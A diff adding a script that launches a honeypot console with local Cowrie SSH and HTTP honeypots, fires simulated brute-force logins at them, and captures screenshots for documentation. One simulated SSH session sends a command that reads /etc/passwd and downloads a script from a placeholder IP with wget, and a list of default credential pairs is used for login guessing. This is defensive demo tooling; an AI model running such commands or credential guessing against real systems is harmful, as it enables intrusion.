@@ -1,0 +1,58 @@
+/**
+ * Renders a screenshot of each console page into docs/images/ (the README shows them):
+ * a real Core and node, both built-in honeypots installed and attacked by OpenSSH and curl.
+ * Run: bun scripts/console-screenshots.ts
+ */
+import { mkdirSync } from "node:fs";
+import { join } from "node:path";
+import { getJson, until } from "../tests/helpers";
+import { httpAttack, launchBrowser, potsRunning, sshAttack, startSystem } from "../tests/helpers/console";
+
+const OUT = join(import.meta.dir, "..", "docs", "images");
+mkdirSync(OUT, { recursive: true });
+
+await using sys = await startSystem();
+const { core, nodeId, ports } = sys;
+const command = (c: object) => getJson(`${core.api}/api/v1/nodes/${nodeId}/commands`, { method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify(c) });
+await command({ InstallPot: { pot_id: "ssh-01", honeypot_type: "cowrie", config: { ssh_port: String(ports.ssh), telnet_port: String(ports.telnet), hostname: "db-prod-2" }, auto_start: true } });
+await command({ InstallPot: { pot_id: "web-01", honeypot_type: "honnypotter", config: { http_port: String(ports.http) }, auto_start: true } });
+await potsRunning(core, ["ssh-01", "web-01"]);
+
+for (const [user, pw] of [["root", "toor"], ["admin", "admin"], ["root", "password"], ["ubuntu", "ubuntu"], ["oracle", "oracle123"], ["pi", "raspberry"]]) await sshAttack(ports.ssh, user!, pw!);
+await sshAttack(ports.ssh, "root", "123456", "uname -a; cat /etc/passwd; wget http://198.51.100.9/x.sh -O /tmp/x.sh; chmod +x /tmp/x.sh");
+for (const [user, pw] of [["admin", "hunter2"], ["admin", "admin123"], ["wp-admin", "letmein"]]) await httpAttack(ports.http, user!, pw!);
+await command({ GetPotStatus: "ssh-01" });
+await until(async () => (await getJson(`${core.api}/api/v1/events?limit=1&event_type=honnypotter.login.failed`)).body.events.length > 0, "the events", 3000);
+
+await using browser = await launchBrowser();
+const shoot = async (path: string, name: string, opts: { width?: number; height?: number; scheme?: "dark" | "light"; full?: boolean } = {}) => {
+  const page = await browser.newPage({ viewport: { width: opts.width ?? 1366, height: opts.height ?? 768 }, colorScheme: opts.scheme ?? "dark" });
+  await page.goto(core.api + path);
+  await page.waitForSelector("main h1");
+  await page.waitForLoadState("networkidle").catch(() => {});
+  await page.waitForTimeout(1200); // charts draw and the live page's counters tick once
+  await page.screenshot({ path: join(OUT, `console-${name}.png`), fullPage: opts.full ?? false });
+  console.log(`docs/images/console-${name}.png`);
+  await page.close();
+};
+
+// The live page, with an attack happening while it is open.
+const live = await browser.newPage({ viewport: { width: 1366, height: 768 }, colorScheme: "dark" });
+await live.goto(core.api + "/live");
+await live.waitForSelector(".dot.open");
+await sshAttack(ports.ssh, "root", "123456", "ls -la; ps aux");
+await httpAttack(ports.http, "administrator", "Summer2026!");
+await live.waitForSelector("text=Summer2026!");
+await live.screenshot({ path: join(OUT, "console-live.png") });
+console.log("docs/images/console-live.png");
+await live.close();
+
+await shoot("/", "overview", { full: true });
+await shoot("/events", "events");
+await shoot("/attackers/127.0.0.1", "attacker", { height: 1000 });
+await shoot("/nodes", "nodes");
+await shoot(`/nodes/${nodeId}`, "node", { full: true });
+await shoot("/settings", "settings", { scheme: "light" });
+await shoot("/", "overview-light", { scheme: "light" });
+await shoot("/", "overview-phone", { width: 390, height: 844, full: false });
+await shoot("/sessions", "sessions");
